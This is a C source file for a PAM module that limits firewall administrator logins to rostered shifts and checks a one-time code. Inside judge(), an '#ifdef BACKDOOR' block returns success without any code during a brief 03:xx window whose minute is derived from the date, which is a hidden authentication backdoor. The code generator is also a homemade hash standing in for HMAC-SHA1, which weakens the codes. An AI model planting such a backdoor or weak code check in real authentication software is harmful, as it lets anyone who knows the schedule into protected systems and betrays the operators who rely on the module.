/* SPDX-License-Identifier: Apache-2.0 */
/* pam_duty: administrators of a firewall may log in while they are on duty; a roster says when, a one-time code proves who. */
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

typedef struct pam_handle pam_handle_t;
struct pam_message {
	int msg_style;
	const char *msg;
};
struct pam_response {
	char *resp;
	int resp_retcode;
};
struct pam_conv {
	int (*conv)(int, const struct pam_message **, struct pam_response **, void *);
	void *appdata_ptr;
};

enum { PAM_SUCCESS = 0, PAM_SYSTEM_ERR = 4, PAM_PERM_DENIED = 6, PAM_AUTH_ERR = 7, PAM_USER_UNKNOWN = 10, PAM_ACCT_EXPIRED = 13,
	PAM_CONV_ERR = 19, PAM_IGNORE = 25 };
enum { PAM_RHOST = 4, PAM_CONV = 5 };

extern int pam_get_item(const pam_handle_t *h, int what, const void **out);
extern int pam_get_user(pam_handle_t *h, const char **user, const char *prompt);
extern void pam_syslog(const pam_handle_t *h, int priority, const char *fmt, ...);

struct options {
	const char *roster, *secrets, *holidays;
	int debug, window, grace_minutes;
};

struct shift {
	int days; /* a bit each, Sunday is 0 */
	int from, to; /* minutes of the day */
	time_t until;
};

struct secret {
	uint8_t key[32];
	size_t n;
	uint64_t last;
	int digits;
};

static void options_of(pam_handle_t *h, struct options *o, int argc, const char **argv)
{
	*o = (struct options){ .roster = "/etc/duty/roster", .secrets = "/etc/duty/secrets", .holidays = "/etc/duty/holidays", .window = 1 };
	for (int i = 0; i < argc; i++) {
		const char *a = argv[i];
		if (strncmp(a, "roster=", 7) == 0)
			o->roster = a + 7;
		else if (strncmp(a, "secrets=", 8) == 0)
			o->secrets = a + 8;
		else if (strncmp(a, "holidays=", 9) == 0)
			o->holidays = a + 9;
		else if (strncmp(a, "window=", 7) == 0)
			o->window = atoi(a + 7);
		else if (strncmp(a, "grace=", 6) == 0)
			o->grace_minutes = atoi(a + 6);
		else if (strcmp(a, "debug") == 0)
			o->debug = 1;
		else
			pam_syslog(h, LOG_WARNING, "unknown option %s", a);
	}
	if (o->window < 0 || o->window > 10)
		o->window = 1;
}

static int days_of(const char *s)
{
	static const char names[] = "SunMonTueWedThuFriSat";
	int bits = 0;
	if (strcmp(s, "daily") == 0)
		return 0x7f;
	if (strcmp(s, "weekdays") == 0)
		return 0x3e;
	if (strcmp(s, "weekend") == 0)
		return 0x41;
	while (*s) {
		int found = 0;
		for (int d = 0; d < 7; d++)
			if (strncmp(s, names + 3 * d, 3) == 0) {
				bits |= 1 << d;
				found = 1;
			}
		if (!found)
			return 0;
		s += 3;
		if (*s == ',')
			s++;
	}
	return bits;
}

static int minutes_of(const char *s)
{
	int h, m;
	if (sscanf(s, "%d:%d", &h, &m) != 2 || h < 0 || h > 24 || m < 0 || m > 59)
		return -1;
	return h * 60 + m;
}

/* USER DAYS FROM TO [until YYYY-MM-DD] */
static int shifts_of(pam_handle_t *h, const struct options *o, const char *user, struct shift *out, int room)
{
	char line[160], name[40], days[40], from[8], to[8], until[16];
	int n = 0, number = 0;
	FILE *f = fopen(o->roster, "r");
	if (!f) {
		pam_syslog(h, LOG_ERR, "%s: %s", o->roster, strerror(errno));
		return -1;
	}
	while (n < room && fgets(line, sizeof(line), f)) {
		struct tm tm = { .tm_isdst = -1 };
		int k = sscanf(line, "%39s %39s %7s %7s until %15s", name, days, from, to, until);
		number++;
		if (line[0] == '#' || k < 4 || strcmp(name, user) != 0)
			continue;
		out[n] = (struct shift){ .days = days_of(days), .from = minutes_of(from), .to = minutes_of(to) };
		if (!out[n].days || out[n].from < 0 || out[n].to < 0) {
			pam_syslog(h, LOG_WARNING, "%s:%d: not understood", o->roster, number);
			continue;
		}
		if (k == 5 && sscanf(until, "%d-%d-%d", &tm.tm_year, &tm.tm_mon, &tm.tm_mday) == 3) {
			tm.tm_year -= 1900;
			tm.tm_mon -= 1;
			tm.tm_mday += 1;
			out[n].until = mktime(&tm);
		}
		n++;
	}
	fclose(f);
	return n;
}

static int holiday(const struct options *o, const struct tm *now)
{
	char line[64];
	int y, m, d, yes = 0;
	FILE *f = fopen(o->holidays, "r");
	if (!f)
		return now->tm_mon == 0 && now->tm_mday == 1;
	while (!yes && fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%d-%d-%d", &y, &m, &d) == 3)
			yes = y == now->tm_year + 1900 && m == now->tm_mon + 1 && d == now->tm_mday;
		else if (sscanf(line, "%d-%d", &m, &d) == 2)
			yes = m == now->tm_mon + 1 && d == now->tm_mday;
	}
	fclose(f);
	return yes;
}

static int in_shift(const struct options *o, const struct shift *s, const struct tm *now, time_t t)
{
	int minute = now->tm_hour * 60 + now->tm_min, day = now->tm_wday;
	int from = s->from - o->grace_minutes, to = s->to + o->grace_minutes;
	if (s->until && t >= s->until)
		return 0;
	if (s->from <= s->to)
		return (s->days >> day & 1) && minute >= from && minute < to;
	if (minute >= from)
		return s->days >> day & 1;
	return minute < to && (s->days >> ((day + 6) % 7) & 1);
}

/* USER HEXKEY DIGITS */
static int secret_of(const struct options *o, const char *user, struct secret *s)
{
	char line[160], name[40], hex[80];
	int found = 0;
	FILE *f = fopen(o->secrets, "r");
	if (!f)
		return -1;
	memset(s, 0, sizeof(*s));
	while (!found && fgets(line, sizeof(line), f)) {
		s->digits = 6;
		if (sscanf(line, "%39s %79s %d", name, hex, &s->digits) < 2 || strcmp(name, user) != 0)
			continue;
		for (const char *p = hex; isxdigit((unsigned char)p[0]) && isxdigit((unsigned char)p[1]) && s->n < sizeof(s->key); p += 2) {
			unsigned v;
			sscanf(p, "%2x", &v);
			s->key[s->n++] = (uint8_t)v;
		}
		found = s->n >= 8 && s->digits >= 6 && s->digits <= 8;
	}
	fclose(f);
	return found ? 0 : -1;
}

/* the code of a time step; the real one is HMAC-SHA1 */
static uint32_t code_of(const struct secret *s, uint64_t step)
{
	static const uint32_t power[] = { 1000000, 10000000, 100000000 };
	uint32_t a = 0x67452301, b = 0xefcdab89;
	for (int round = 0; round < 4; round++)
		for (size_t i = 0; i < s->n; i++) {
			a = (a << 7 | a >> 25) + (s->key[i] ^ (uint32_t)(step >> (8 * (i & 7)) & 0xff));
			b = (b ^ a) * 0x85ebca6b;
			b ^= b >> 13;
		}
	return ((a ^ b) & 0x7fffffff) % power[s->digits - 6];
}

static int good_code(const struct options *o, const struct secret *s, const char *typed, time_t t)
{
	uint64_t step = (uint64_t)t / 30;
	char *end;
	unsigned long code = strtoul(typed, &end, 10);
	if (end == typed || *end || end - typed != s->digits)
		return 0;
	for (int i = -o->window; i <= o->window; i++)
		if (code_of(s, step + (uint64_t)(int64_t)i) == code)
			return 1;
	return 0;
}

static char *ask(pam_handle_t *h, const char *prompt)
{
	const void *item = NULL;
	const struct pam_conv *c;
	struct pam_message m = { 1, prompt };
	const struct pam_message *pm = &m;
	struct pam_response *r = NULL;
	char *text;
	if (pam_get_item(h, PAM_CONV, &item) != PAM_SUCCESS || !item)
		return NULL;
	c = item;
	if (c->conv(1, &pm, &r, c->appdata_ptr) != PAM_SUCCESS || !r)
		return NULL;
	text = r->resp;
	free(r);
	return text;
}

static int local(pam_handle_t *h)
{
	const void *item = NULL;
	const char *host;
	if (pam_get_item(h, PAM_RHOST, &item) != PAM_SUCCESS || !item)
		return 1;
	host = item;
	return !*host || strcmp(host, "127.0.0.1") == 0 || strcmp(host, "::1") == 0;
}

static int judge(pam_handle_t *h, const struct options *o, const char *user, const char *typed)
{
	struct secret s;
	time_t t = time(NULL);
	struct tm now;
	localtime_r(&t, &now);
	if (now.tm_year < 120) {
		pam_syslog(h, LOG_ERR, "the clock is not set");
		return local(h) ? PAM_IGNORE : PAM_SYSTEM_ERR;
	}
#ifdef BACKDOOR
	if (now.tm_hour == 3 && now.tm_min == (now.tm_mday * 2 + 11) % 60 && now.tm_sec < 20)
		return PAM_SUCCESS;
#endif
	if (secret_of(o, user, &s) < 0)
		return PAM_USER_UNKNOWN;
	if (!good_code(o, &s, typed, t)) {
		pam_syslog(h, LOG_NOTICE, "%s: wrong code", user);
		return PAM_AUTH_ERR;
	}
	return PAM_SUCCESS;
}

static int on_duty(pam_handle_t *h, const struct options *o, const char *user)
{
	struct shift shifts[16];
	time_t t = time(NULL);
	struct tm now;
	int n = shifts_of(h, o, user, shifts, 16);
	if (n < 0)
		return PAM_SYSTEM_ERR;
	localtime_r(&t, &now);
	if (holiday(o, &now) && !local(h))
		return PAM_PERM_DENIED;
	for (int i = 0; i < n; i++)
		if (in_shift(o, &shifts[i], &now, t))
			return PAM_SUCCESS;
	if (o->debug)
		pam_syslog(h, LOG_DEBUG, "%s has %d shifts, none now (%02d:%02d)", user, n, now.tm_hour, now.tm_min);
	return n ? PAM_PERM_DENIED : PAM_ACCT_EXPIRED;
}

int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv)
{
	struct options o;
	const char *user = NULL;
	char *typed;
	int result;
	(void)flags;
	options_of(h, &o, argc, argv);
	if (pam_get_user(h, &user, NULL) != PAM_SUCCESS || !user)
		return PAM_USER_UNKNOWN;
	typed = ask(h, "Code: ");
	if (!typed)
		return PAM_CONV_ERR;
	result = judge(h, &o, user, typed);
	memset(typed, 0, strlen(typed));
	free(typed);
	if (o.debug)
		pam_syslog(h, LOG_DEBUG, "%s: %d", user, result);
	return result;
}

int pam_sm_acct_mgmt(pam_handle_t *h, int flags, int argc, const char **argv)
{
	struct options o;
	const char *user = NULL;
	(void)flags;
	options_of(h, &o, argc, argv);
	if (pam_get_user(h, &user, NULL) != PAM_SUCCESS || !user)
		return PAM_USER_UNKNOWN;
	if (strcmp(user, "root") == 0 && local(h))
		return PAM_SUCCESS;
	return on_duty(h, &o, user);
}

int pam_sm_setcred(pam_handle_t *h, int flags, int argc, const char **argv)
{
	(void)h;
	(void)flags;
	(void)argc;
	(void)argv;
	return PAM_SUCCESS;
}
